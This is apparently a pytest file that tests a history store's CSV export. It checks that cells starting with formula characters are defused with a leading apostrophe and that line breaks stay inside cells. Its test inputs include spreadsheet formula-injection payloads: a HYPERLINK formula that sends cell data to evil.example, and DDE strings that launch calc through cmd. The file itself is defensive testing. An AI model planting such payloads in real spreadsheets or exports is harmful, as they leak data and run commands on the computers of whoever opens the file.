"""The CSV export opens in a spreadsheet as text: a cell that would run as a formula there
(=, +, -, @, a tab or a carriage return first) starts with a ' instead."""

from __future__ import annotations

import csv
import io

import pytest

from kontextlab.history import HistoryStore

pytest_plugins = ["tests.pgfixture"]

A = "a" * 64


def exported(history: HistoryStore) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(history.export_csv(A))))


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "return"],
)
def test_a_formula_in_a_prompt_is_exported_as_text(history: HistoryStore, prompt: str) -> None:
    history.add_job(
        account_key=A, kind="create", request={"prompt": prompt}, summary={"prompt": prompt}
    )
    assert exported(history)[0]["prompt"] == "'" + prompt


def test_every_text_column_is_defused_and_ordinary_text_is_untouched(
    history: HistoryStore,
) -> None:
    rid = history.add_job(
        account_key=A,
        kind="create",
        request={"prompt": "A calm sea, 16:9"},
        summary={"prompt": "A calm sea, 16:9"},
    )
    history.update_job(
        rid,
        status="failed",
        message="=cmd|' /C calc'!A0",
        error_kind="@evil",
        job_id="-job",
        asset_url="+https://evil.example",
    )
    row = exported(history)[0]
    assert row["prompt"] == "A calm sea, 16:9"
    assert row["status"] == "failed" and row["kind"] == "create"
    assert (row["message"], row["error_kind"], row["job_id"], row["asset_url"]) == (
        "'=cmd|' /C calc'!A0",
        "'@evil",
        "'-job",
        "'+https://evil.example",
    )
    assert row["created_at"][:2] == "20" and row["link_lost"] == "False"


def test_line_breaks_inside_a_cell_keep_the_rows_apart(history: HistoryStore) -> None:
    for prompt in ("one\rtwo", "three\nfour", "five\r\nsix"):
        history.add_job(
            account_key=A, kind="create", request={"prompt": prompt}, summary={"prompt": prompt}
        )
    assert [r["prompt"] for r in exported(history)] == ["one\rtwo", "three\nfour", "five\r\nsix"]
